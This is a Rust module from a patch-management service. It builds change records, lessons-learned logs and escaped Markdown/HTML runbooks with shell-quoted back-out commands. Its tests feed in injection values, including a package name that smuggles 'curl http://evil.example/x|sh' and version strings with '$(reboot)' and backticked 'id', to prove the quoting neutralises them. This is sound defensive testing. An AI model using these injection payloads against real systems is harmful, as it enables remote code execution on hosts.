//! Change records (`CHG-<nnnn>`), runbooks and the lessons-learned log.
//!
//! Every deployment has one change record, created with it (the zero-day lane
//! creates both in one transaction; deployments from before get theirs when
//! the server starts, `App::init_change_records`). Its content is computed when read, from
//! the deployment, the patch catalog, KEV, the plan preview (windows), the
//! installed versions (the back-out plan: each package returns to the version
//! installed before the change, which is also what the agent records as its
//! rollback plan before applying) and the approvals; the outcome is the
//! deployment's status until the rollout engine reports. Runbooks (Markdown
//! and HTML) are generated from the record.

use crate::{App, AppError, Caller, RequestCtx, fmt_ts};
use patchbay_core::auth::Action;
use patchbay_core::names::is_unsafe_char;
use patchbay_proto::api::{
    BackOutStep, ChangeApproval, ChangePatch, ChangeRecordOut, ChangeSummaryOut, LessonOut,
    PlanRequest,
};
use patchbay_proto::error::ErrorCode;
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

/// Longest lesson: 16 KiB is several pages of text, and a lesson is shown in
/// every runbook of its change.
pub const MAX_LESSON_BYTES: usize = 16 * 1024;

/// A value of someone else's making (a reason, a note, an owner, a token name,
/// a package) as Markdown text that stays text: characters Markdown would act
/// on are backslash-escaped and line breaks become spaces, so the value cannot
/// start a heading, a table row, a list, a link, HTML or code, nor end the
/// table cell it is in.
pub fn md_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '&' | '#' | '!' | '~' => {
                out.push('\\');
                out.push(c);
            }
            '\n' | '\r' | '\t' => out.push(' '),
            c if is_unsafe_char(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// A command for a Markdown table cell, inside a code span: only the `|` that
/// would end the cell needs escaping (GFM), and line breaks become spaces.
fn md_code(s: &str) -> String {
    s.replace('|', "\\|").replace(['\n', '\r', '`'], " ")
}

/// A multi-line lesson as the continuation of a Markdown list item: each line
/// escaped ([`md_text`]; a leading ASCII punctuation character and the `.` or
/// `)` after leading digits are escaped too, leading blanks dropped) and
/// indented under the item, with hard line breaks between lines. No line can
/// open a heading, a table, a list, a quote, a code block or HTML.
pub fn md_lesson(text: &str) -> String {
    let lines: Vec<String> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty())
        .map(|l| {
            let mut e = md_text(l);
            if e.starts_with(|c: char| c.is_ascii_punctuation() && c != '\\') {
                e.insert(0, '\\');
            }
            let digits = e.bytes().take_while(u8::is_ascii_digit).count();
            if digits > 0 && matches!(e.as_bytes().get(digits), Some(b'.' | b')')) {
                e.insert(digits, '\\');
            }
            e
        })
        .collect();
    lines.join("  \n  ")
}

fn lesson_out(l: &patchbay_store::LessonRow) -> LessonOut {
    LessonOut {
        id: l.id,
        change_id: l.change_id.clone(),
        at: fmt_ts(l.at),
        author: l.author.clone(),
        text: l.text.clone(),
    }
}

/// One word for a POSIX shell: `value` unchanged when it is made of safe
/// characters only, otherwise single-quoted (by `shlex`, the quoting of
/// Python's `shlex.quote`). Package names and versions are held to their
/// ecosystem's rules at check-in, but a command shown to people for pasting
/// must be safe whatever the database holds (rows from before those rules,
/// imports). A NUL cannot be passed in an argument at all and is dropped.
pub fn shell_word(value: &str) -> String {
    let v = value.replace('\0', "");
    shlex::try_quote(&v)
        .map(|q| q.into_owned())
        .unwrap_or_else(|_| "''".to_string())
}

/// The back-out command for one package, by package format; every value from
/// the database is one quoted shell word.
pub fn back_out_command(format: &str, package: &str, version: &str) -> String {
    // Quoting keeps a word one word, but a line break inside it would still
    // split what people paste into lines (and end the `# or:` comment): no
    // command for such a value (check-ins and imports refuse them).
    if package.chars().chain(version.chars()).any(is_unsafe_char) {
        return "# no command: the stored package name or version contains control characters; \
                check the asset's inventory"
            .to_string();
    }
    match format {
        "rpm" => format!(
            "dnf -y install {}  # or: zypper install --oldpackage {}",
            shell_word(&format!("{package}-{version}")),
            shell_word(&format!("{package}={version}"))
        ),
        "apk" => format!("apk add {}", shell_word(&format!("{package}={version}"))),
        _ => format!(
            "apt-get install -y --allow-downgrades -o Dpkg::Options::=--force-confold {}",
            shell_word(&format!("{package}={version}"))
        ),
    }
}

impl App {
    /// Gives every deployment from before change records existed its record
    /// (audited when one is created); returns how many. Run once at start:
    /// deployments made since get theirs in their own transaction.
    pub async fn init_change_records(&self) -> Result<u64, AppError> {
        let (deps, have) = {
            let mut tx = self.store.read().await?;
            (
                tx.list_deployments().await?,
                tx.list_change_records().await?,
            )
        };
        let have: BTreeSet<String> = have.into_iter().map(|c| c.deployment).collect();
        let missing: Vec<_> = deps.into_iter().filter(|d| !have.contains(&d.id)).collect();
        if missing.is_empty() {
            return Ok(0);
        }
        let n = missing.len() as u64;
        let mut tx = self
            .change_by_system(crate::system::SystemActor::Bootstrap)
            .await?;
        let mut any = false;
        for d in missing {
            let (c, created) = tx
                .ensure_change_record(&d.id, self.now(), &d.created_by)
                .await?;
            any |= created;
            if created {
                tx.audit(
                    "change.create",
                    &format!("change:{}", c.id),
                    json!({"deployment": d.id}),
                )
                .await?;
            }
        }
        if any {
            tx.commit().await?;
        }
        // Else another replica created them first: nothing was written.
        Ok(n)
    }

    /// Change records, newest first.
    pub async fn change_records(
        &self,
        caller: &Caller,
        ctx: &RequestCtx,
    ) -> Result<Vec<ChangeSummaryOut>, AppError> {
        self.require(caller, Action::ReadInventory, ctx).await?;
        let mut snap = self.snapshot().await?;
        let changes = snap.tx().list_change_records().await?;
        let deps = snap.tx().list_deployments().await?;
        // One patch catalog for all of them (not a full record each).
        let (policy, _) = snap.policy_in_force().await?;
        let all = snap.findings(None, true).await?;
        let ranked = snap.rank(&policy, all).await?;
        drop(snap);
        let catalog = self.patches_from(&policy, &ranked).await;
        let tier_of: BTreeMap<&str, &str> = catalog
            .iter()
            .map(|p| (p.name.as_str(), p.highest_tier.as_str()))
            .collect();
        Ok(changes
            .iter()
            .rev()
            .filter_map(|c| {
                let d = deps.iter().find(|d| d.id == c.deployment)?;
                Some(ChangeSummaryOut {
                    id: c.id.clone(),
                    deployment: d.id.clone(),
                    kind: d.kind.clone(),
                    status: d.status.clone(),
                    highest_tier: d
                        .patches
                        .iter()
                        .filter_map(|p| tier_of.get(p.as_str()).copied())
                        .min()
                        .unwrap_or("-")
                        .to_string(),
                    assets: d.assets.len(),
                    patches: d.patches.len(),
                    created_at: fmt_ts(c.created_at),
                })
            })
            .collect())
    }

    /// One change record with everything it shows.
    pub async fn change_record(
        &self,
        caller: &Caller,
        id: &str,
        ctx: &RequestCtx,
    ) -> Result<ChangeRecordOut, AppError> {
        self.require(caller, Action::ReadInventory, ctx).await?;
        let id = id.trim().to_ascii_uppercase();
        let mut snap = self.snapshot().await?;
        let (change, dep, approvals, lessons, assets, kev) = {
            let tx = snap.tx();
            let change = tx
                .list_change_records()
                .await?
                .into_iter()
                .find(|c| c.id == id || c.deployment == id)
                .ok_or_else(|| AppError::not_found(format!("no change record {id:?}")))?;
            let dep = tx
                .list_deployments()
                .await?
                .into_iter()
                .find(|d| d.id == change.deployment)
                .ok_or_else(|| {
                    AppError::not_found(format!("deployment {} is gone", change.deployment))
                })?;
            (
                change,
                dep,
                tx.list_blackout_approvals().await?,
                tx.list_lessons().await?,
                tx.list_assets().await?,
                tx.all_kev().await?,
            )
        };
        let (policy, _) = snap.policy_in_force().await?;
        // Every finding (open or resolved) on the deployment's assets.
        let all = snap.findings(None, true).await?;
        let scope: BTreeSet<&str> = dep.assets.iter().map(String::as_str).collect();
        let on_scope: Vec<_> = all
            .into_iter()
            .filter(|f| scope.contains(f.asset.as_str()))
            .collect();
        let ranked = snap.rank(&policy, on_scope.clone()).await?;
        drop(snap);
        let catalog = self.patches_from(&policy, &ranked).await;
        let patches: Vec<ChangePatch> = dep
            .patches
            .iter()
            .map(|name| match catalog.iter().find(|p| &p.name == name) {
                Some(p) => ChangePatch {
                    name: p.name.clone(),
                    package: p.package.clone(),
                    fixed_version: p.fixed_version.clone(),
                    highest_tier: p.highest_tier.clone(),
                    cves: p.cves.clone(),
                },
                None => ChangePatch {
                    name: name.clone(),
                    package: String::new(),
                    fixed_version: String::new(),
                    highest_tier: String::new(),
                    cves: vec![],
                },
            })
            .collect();
        let highest_tier = patches
            .iter()
            .filter(|p| !p.highest_tier.is_empty())
            .map(|p| p.highest_tier.clone())
            .min()
            .unwrap_or_else(|| "-".into());
        let kev_set: BTreeSet<&str> = kev.iter().map(|k| k.cve.as_str()).collect();
        let kev_cves: Vec<String> = patches
            .iter()
            .flat_map(|p| p.cves.iter())
            .filter(|c| kev_set.contains(c.as_str()))
            .cloned()
            .collect::<BTreeSet<_>>()
            .into_iter()
            .collect();
        // The findings the change closes, and the back-out plan: per asset and
        // binary package of each patched source, the installed version.
        let pkgs: BTreeMap<&str, &str> = patches
            .iter()
            .map(|p| (p.package.as_str(), p.fixed_version.as_str()))
            .collect();
        let formats: BTreeMap<&str, &str> = assets
            .iter()
            .map(|a| {
                (
                    a.name.as_str(),
                    a.package_format.as_deref().unwrap_or("deb"),
                )
            })
            .collect();
        let mut findings = 0u64;
        let mut steps: BTreeMap<(String, String), BackOutStep> = BTreeMap::new();
        for f in &on_scope {
            let target = pkgs
                .get(f.source_package.as_str())
                .or_else(|| pkgs.get(f.package.as_str()));
            let Some(target) = target else { continue };
            if f.resolved_at.is_none() {
                findings += 1;
            }
            let fmt = formats.get(f.asset.as_str()).copied().unwrap_or("deb");
            steps
                .entry((f.asset.clone(), f.package.clone()))
                .or_insert_with(|| BackOutStep {
                    asset: f.asset.clone(),
                    package: f.package.clone(),
                    installed_version: f.installed_version.clone(),
                    target_version: f
                        .fixed_version
                        .clone()
                        .unwrap_or_else(|| target.to_string()),
                    command: back_out_command(fmt, &f.package, &f.installed_version),
                });
        }
        let plan = self
            .plan_preview(
                caller,
                &PlanRequest {
                    deployment: Some(dep.id.clone()),
                    ..PlanRequest::default()
                },
                ctx,
            )
            .await?;
        let approvals: Vec<ChangeApproval> = approvals
            .iter()
            .filter(|a| a.deployment == dep.id)
            .map(|a| ChangeApproval {
                subject: format!("blackout:{}", a.blackout),
                approver: a.approver.clone(),
                at: fmt_ts(a.approved_at),
                note: a.note.clone(),
            })
            .collect();
        let risk = format!(
            "{} {} change of {} patch(es) on {} asset(s), closing {} open finding(s){}",
            highest_tier,
            if dep.kind == "oob" {
                "out-of-band"
            } else {
                "baseline"
            },
            patches.len(),
            dep.assets.len(),
            findings,
            if kev_cves.is_empty() {
                String::new()
            } else {
                format!("; {} CVE(s) actively exploited (CISA KEV)", kev_cves.len())
            }
        );
        Ok(ChangeRecordOut {
            id: change.id.clone(),
            deployment: dep.id.clone(),
            kind: dep.kind.clone(),
            reason: dep.reason.clone(),
            created_at: fmt_ts(change.created_at),
            created_by: change.created_by.clone(),
            assets: dep.assets.clone(),
            patches,
            highest_tier,
            kev_cves,
            findings,
            risk,
            rings: plan.rings,
            windows: plan.assets,
            back_out: steps.into_values().collect(),
            approvals,
            outcome: dep.status.clone(),
            lessons: lessons
                .iter()
                .filter(|l| l.change_id == change.id)
                .map(lesson_out)
                .collect(),
        })
    }

    /// Adds a lessons-learned entry (admin, operator).
    pub async fn add_lesson(
        &self,
        caller: &Caller,
        id: &str,
        text: &str,
        ctx: &RequestCtx,
    ) -> Result<LessonOut, AppError> {
        self.require(caller, Action::WriteAssets, ctx).await?;
        let text = text.replace("\r\n", "\n");
        let text = text.trim();
        if text.is_empty() {
            return Err(AppError::invalid("text: a lesson needs text"));
        }
        if text.len() > MAX_LESSON_BYTES {
            return Err(AppError::new(
                ErrorCode::PayloadTooLarge,
                format!(
                    "text: a lesson is at most {MAX_LESSON_BYTES} bytes (16 KiB), this one is {}",
                    text.len()
                ),
            ));
        }
        if let Some(c) = text
            .chars()
            .find(|&c| c != '\n' && c != '\t' && is_unsafe_char(c))
        {
            return Err(AppError::invalid(format!(
                "text: contains the control character {c:?}; a lesson may hold line breaks and tabs, \
                 but no other control, bidirectional or zero-width characters"
            )));
        }
        let id = id.trim().to_ascii_uppercase();
        let mut tx = self.change(caller, Action::WriteAssets, ctx).await?;
        if !tx.list_change_records().await?.iter().any(|c| c.id == id) {
            return Err(AppError::not_found(format!("no change record {id:?}")));
        }
        let now = self.now();
        let lid = tx.add_lesson(&id, text, &caller.actor(), now).await?;
        tx.audit(
            "change.lesson",
            &format!("change:{id}"),
            json!({"lesson": lid, "text": text}),
        )
        .await?;
        tx.commit().await?;
        Ok(LessonOut {
            id: lid,
            change_id: id,
            at: fmt_ts(now),
            author: caller.actor(),
            text: text.to_string(),
        })
    }

    /// Lessons whose text contains every word of `query` (case-insensitive);
    /// all lessons for an empty query.
    pub async fn search_lessons(
        &self,
        caller: &Caller,
        query: &str,
        ctx: &RequestCtx,
    ) -> Result<Vec<LessonOut>, AppError> {
        self.require(caller, Action::ReadInventory, ctx).await?;
        let words: Vec<String> = query.split_whitespace().map(str::to_lowercase).collect();
        let mut tx = self.store.read().await?;
        Ok(tx
            .list_lessons()
            .await?
            .iter()
            .filter(|l| {
                let t = l.text.to_lowercase();
                words.iter().all(|w| t.contains(w))
            })
            .map(lesson_out)
            .collect())
    }

    /// The change's runbook, Markdown (`html == false`) or HTML.
    pub async fn runbook(
        &self,
        caller: &Caller,
        id: &str,
        html: bool,
        ctx: &RequestCtx,
    ) -> Result<String, AppError> {
        let c = self.change_record(caller, id, ctx).await?;
        self.runbook_of(&c, html).await
    }

    /// The runbook of a record already computed.
    pub(crate) async fn runbook_of(
        &self,
        c: &ChangeRecordOut,
        html: bool,
    ) -> Result<String, AppError> {
        let (owners, approvers) = {
            let mut tx = self.store.read().await?;
            let owners: BTreeSet<String> = tx
                .list_assets()
                .await?
                .into_iter()
                .filter(|a| c.assets.contains(&a.name) && !a.attrs.owner.is_empty())
                .map(|a| a.attrs.owner)
                .collect();
            let approvers: BTreeSet<String> = tx
                .list_api_tokens()
                .await?
                .into_iter()
                .filter(|t| {
                    t.revoked_at.is_none() && matches!(t.role.as_str(), "approver" | "admin")
                })
                .map(|t| format!("token:{}:{}", t.id, t.name))
                .collect();
            (owners, approvers)
        };
        let md = runbook_markdown(c, &owners, &approvers);
        Ok(if html {
            crate::reports::page(
                &format!("Runbook {} — {}", c.id, c.deployment),
                &c.created_at,
                &markdown_to_html(&md),
            )
        } else {
            md
        })
    }
}

fn join_or(items: impl IntoIterator<Item = String>, none: &str) -> String {
    let v: Vec<String> = items.into_iter().collect();
    if v.is_empty() {
        none.to_string()
    } else {
        v.join(", ")
    }
}

/// The runbook as Markdown.
pub fn runbook_markdown(
    c: &ChangeRecordOut,
    owners: &BTreeSet<String>,
    approvers: &BTreeSet<String>,
) -> String {
    let mut s = String::new();
    let _ = writeln!(s, "# Runbook {} — {}\n", c.id, c.deployment);
    let _ = writeln!(s, "**Risk:** {}.  ", c.risk);
    let _ = writeln!(s, "**Why:** {}.  ", md_text(&c.reason));
    let _ = writeln!(s, "**Status:** {}.\n", c.outcome);

    s.push_str("## Roles\n\n| Role | Who | Does |\n|---|---|---|\n");
    let _ = writeln!(
        s,
        "| Change approver | {} | approves the change, each ring that needs approval and any blackout entry; never the change's creator ({}) |",
        join_or(approvers.iter().map(|a| md_text(a)), "(an approver token)"),
        md_text(&c.created_by)
    );
    s.push_str("| NOC operator | the operator on shift | starts the rollout, watches the gates, pauses, aborts or rolls back (`patchbay deployments`, `patchbay plan preview`) |\n");
    let _ = writeln!(
        s,
        "| Asset owners | {} | confirm their services after their window; receive escalations for their assets |",
        join_or(
            owners.iter().map(|o| md_text(o)),
            "(no owner recorded: set one with `patchbay assets set`)"
        )
    );
    let _ = writeln!(
        s,
        "| Security | the vulnerability lead | owns the risk ({}); signs the change off |\n",
        if c.kev_cves.is_empty() {
            "no KEV CVE".to_string()
        } else {
            format!("KEV: {}", c.kev_cves.join(", "))
        }
    );

    s.push_str("## Timeline by window\n\n| Asset | Ring | Window | Planned start | Note |\n|---|---|---|---|---|\n");
    for w in &c.windows {
        let _ = writeln!(
            s,
            "| {} | {} | {} | {} | {} |",
            md_text(&w.asset),
            md_text(w.ring.as_deref().unwrap_or("-")),
            md_text(w.window.as_deref().unwrap_or("-")),
            md_text(w.planned.as_deref().unwrap_or("not planned")),
            md_text(
                &w.unplanned
                    .clone()
                    .or_else(|| (!w.enters_blackouts.is_empty()).then(|| format!(
                        "enters blackout {} (approved)",
                        w.enters_blackouts.join(", ")
                    )))
                    .unwrap_or_default()
            )
        );
    }
    s.push('\n');

    s.push_str("## Steps\n\n");
    s.push_str("1. Before the first window: confirm the approvals below, check that the agents are checking in (`patchbay assets list`), and that each asset's snapshot hook and health checks are configured.\n");
    let mut n = 2;
    for r in &c.rings {
        let _ = writeln!(
            s,
            "{n}. Ring **{}** ({} asset(s)) from {}: the agents record the rollback plan and the health baseline, apply the exact versions, run the health checks; then soak {} before the next ring.",
            md_text(&r.ring),
            r.assets,
            r.earliest,
            r.soak
        );
        n += 1;
    }
    let _ = writeln!(
        s,
        "{n}. After the last ring: confirm the findings are closed (`patchbay findings list`), record the outcome and the lessons learned (`patchbay changes lessons add {}`).\n",
        c.id
    );

    s.push_str("## Gates\n\n");
    s.push_str("- Success rate of the ring's jobs at least 95 %.\n");
    s.push_str("- Health not worse than the baseline taken before the change (canary analysis); too little data pauses for a human.\n");
    s.push_str("- The ring's soak time has passed since its last job.\n");
    s.push_str("- Approval recorded where the ring needs one (before `ring3-critical`, and before an out-of-band change leaves ring 1), never by the change's creator.\n\n");

    s.push_str("## Escalation chain\n\n");
    s.push_str("1. NOC operator on shift: pause the deployment.\n");
    let _ = writeln!(
        s,
        "2. Asset owners: {}.",
        join_or(owners.iter().map(|o| md_text(o)), "(none recorded)")
    );
    let _ = writeln!(
        s,
        "3. Change approver: {}.",
        join_or(approvers.iter().map(|a| md_text(a)), "(none)")
    );
    s.push_str(
        "4. Security lead: decides on abort versus exception (`patchbay exceptions add`).\n\n",
    );

    s.push_str("## Back-out\n\n");
    s.push_str("The agent records each package's installed version before applying; `patchbay-agent rollback --job-key KEY` restores them (or runs the snapshot-restore hook). By hand:\n\n");
    s.push_str("| Asset | Package | Back to | From | Command |\n|---|---|---|---|---|\n");
    for b in &c.back_out {
        let _ = writeln!(
            s,
            "| {} | {} | {} | {} | `{}` |",
            md_text(&b.asset),
            md_text(&b.package),
            md_text(&b.installed_version),
            md_text(&b.target_version),
            md_code(&b.command)
        );
    }
    s.push('\n');

    s.push_str("## Approvals\n\n");
    if c.approvals.is_empty() {
        s.push_str("None recorded yet.\n\n");
    }
    for a in &c.approvals {
        let _ = writeln!(
            s,
            "- {} by {} at {}: {}",
            md_text(&a.subject),
            md_text(&a.approver),
            a.at,
            md_text(&a.note)
        );
    }
    if !c.approvals.is_empty() {
        s.push('\n');
    }

    s.push_str("## Lessons learned\n\n");
    if c.lessons.is_empty() {
        s.push_str("None yet.\n");
    }
    for l in &c.lessons {
        let _ = writeln!(
            s,
            "- {} ({}): {}",
            l.at,
            md_text(&l.author),
            md_lesson(&l.text)
        );
    }
    s
}

/// The small Markdown subset the runbook uses, as HTML: headings, tables,
/// numbered and bulleted lists (with indented continuation lines), paragraphs,
/// `code`, **bold** and backslash escapes. Text is HTML-escaped.
pub fn markdown_to_html(md: &str) -> String {
    fn push_esc(out: &mut String, c: char) {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
    fn inline(s: &str) -> String {
        let chars: Vec<char> = s.chars().collect();
        let mut out = String::new();
        let (mut code, mut bold) = (false, false);
        let mut i = 0;
        while i < chars.len() {
            let c = chars[i];
            let next = chars.get(i + 1).copied();
            match (c, next) {
                // In a code span only the table's `\|` is an escape (GFM).
                ('\\', Some(n)) if n.is_ascii_punctuation() && (!code || n == '|') => {
                    push_esc(&mut out, n);
                    i += 2;
                }
                ('`', _) => {
                    out.push_str(if code { "</code>" } else { "<code>" });
                    code = !code;
                    i += 1;
                }
                ('*', Some('*')) if !code => {
                    out.push_str(if bold { "</strong>" } else { "<strong>" });
                    bold = !bold;
                    i += 2;
                }
                (c, _) => {
                    push_esc(&mut out, c);
                    i += 1;
                }
            }
        }
        if code {
            out.push_str("</code>");
        }
        if bold {
            out.push_str("</strong>");
        }
        out
    }
    /// The cells of a table row, split at the `|` that are not escaped.
    fn cells(row: &str) -> Vec<String> {
        let mut cells = vec![String::new()];
        let mut it = row.trim().chars();
        while let Some(c) = it.next() {
            match c {
                '\\' => {
                    let last = cells.last_mut().expect("one cell");
                    last.push('\\');
                    if let Some(n) = it.next() {
                        last.push(n);
                    }
                }
                '|' => cells.push(String::new()),
                c => cells.last_mut().expect("one cell").push(c),
            }
        }
        if cells.first().is_some_and(|c| c.trim().is_empty()) {
            cells.remove(0);
        }
        if cells.last().is_some_and(|c| c.trim().is_empty()) {
            cells.pop();
        }
        cells.into_iter().map(|c| c.trim().to_string()).collect()
    }
    let mut out = String::new();
    let mut list: Option<&str> = None;
    let mut table_head = false;
    let close_list = |out: &mut String, list: &mut Option<&str>| {
        if let Some(t) = list.take() {
            let _ = write!(out, "</{t}>");
        }
    };
    let mut in_table = false;
    for line in md.lines() {
        let t = line.trim_end();
        // An indented line under a list item continues it.
        if list.is_some()
            && line.starts_with("  ")
            && !t.trim().is_empty()
            && out.ends_with("</li>")
        {
            out.truncate(out.len() - "</li>".len());
            let _ = write!(out, "<br>{}</li>", inline(t.trim()));
            continue;
        }
        if t.starts_with('|') {
            close_list(&mut out, &mut list);
            if !in_table {
                out.push_str("<table>");
                in_table = true;
                table_head = true;
            }
            let cells = cells(t);
            if cells.iter().all(|c| c.chars().all(|ch| ch == '-')) {
                continue;
            }
            let tag = if table_head { "th" } else { "td" };
            out.push_str("<tr>");
            for c in &cells {
                let _ = write!(out, "<{tag}>{}</{tag}>", inline(c));
            }
            out.push_str("</tr>");
            table_head = false;
            continue;
        }
        if in_table {
            out.push_str("</table>");
            in_table = false;
        }
        if let Some(h) = t.strip_prefix("## ") {
            close_list(&mut out, &mut list);
            let _ = write!(out, "<h2>{}</h2>", inline(h));
        } else if let Some(h) = t.strip_prefix("# ") {
            close_list(&mut out, &mut list);
            let _ = write!(out, "<h2>{}</h2>", inline(h));
        } else if let Some(item) = t.strip_prefix("- ") {
            if list != Some("ul") {
                close_list(&mut out, &mut list);
                out.push_str("<ul>");
                list = Some("ul");
            }
            let _ = write!(out, "<li>{}</li>", inline(item));
        } else if let Some((num, item)) = t
            .split_once(". ")
            .filter(|(n, _)| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()))
        {
            let _ = num;
            if list != Some("ol") {
                close_list(&mut out, &mut list);
                out.push_str("<ol>");
                list = Some("ol");
            }
            let _ = write!(out, "<li>{}</li>", inline(item));
        } else if t.is_empty() {
            close_list(&mut out, &mut list);
        } else {
            close_list(&mut out, &mut list);
            let _ = write!(out, "<p>{}</p>", inline(t));
        }
    }
    if in_table {
        out.push_str("</table>");
    }
    close_list(&mut out, &mut list);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Security issue, hole 4: whatever the database holds, a back-out command
    /// is the command plus the package pin as exactly one shell word.
    #[test]
    fn back_out_commands_quote_shell_metacharacters() {
        let name = "libssl3;curl http://evil.example/x|sh;#";
        let version = "3.0.17-1$(reboot)`id`'\"\\ ~{a,b}*";
        for (fmt, program, pin) in [
            ("deb", "apt-get", format!("{name}={version}")),
            ("apk", "apk", format!("{name}={version}")),
            ("rpm", "dnf", format!("{name}-{version}")),
        ] {
            let cmd = back_out_command(fmt, name, version);
            let words = shlex::split(&cmd).unwrap_or_else(|| panic!("{cmd}"));
            assert_eq!(words[0], program, "{cmd}");
            let i = words
                .iter()
                .position(|w| w == &pin)
                .expect("the pin is one word");
            assert!(words[..i].iter().all(|w| !w.contains("curl")), "{cmd}");
            // A real POSIX shell agrees: printf shows each argument on its own
            // line, and nothing of the value runs.
            let probe = cmd.replacen(program, "printf '%s\\n'", 1);
            let probe = probe.split("  # or:").next().unwrap();
            let out = std::process::Command::new("/bin/sh")
                .args(["-c", probe])
                .output()
                .expect("/bin/sh");
            assert!(out.status.success(), "{probe}");
            let printed = String::from_utf8(out.stdout).unwrap();
            assert!(printed.ends_with(&format!("{pin}\n")), "{printed:?}");
        }
        // Plain values stay readable.
        assert_eq!(
            back_out_command("apk", "musl", "1.2.4-r2"),
            "apk add 'musl=1.2.4-r2'"
        );
        assert_eq!(shell_word("nul\0byte"), "nulbyte");
        // A line break would split a pasted command: no command at all.
        let cmd = back_out_command("rpm", "x", "1\nreboot");
        assert!(cmd.starts_with("# no command"), "{cmd}");
        assert!(!cmd.contains('\n'));
    }

    #[test]
    fn markdown_values_stay_text() {
        assert_eq!(md_text("a|b\n## c"), "a\\|b \\#\\# c");
        assert_eq!(
            md_lesson("ok\n## Approvals\n| x |\n1. y\n   > z"),
            "ok  \n  \\#\\# Approvals  \n  \\| x \\|  \n  1\\. y  \n  \\> z"
        );
        let html =
            markdown_to_html("- a  \n  \\#\\# b\n\n| `x \\| y` | \\| |\n|---|---|\n| 1 | 2 |\n");
        assert_eq!(
            html,
            "<ul><li>a<br>## b</li></ul><table><tr><th><code>x | y</code></th><th>|</th></tr><tr><td>1</td><td>2</td></tr></table>"
        );
    }
}
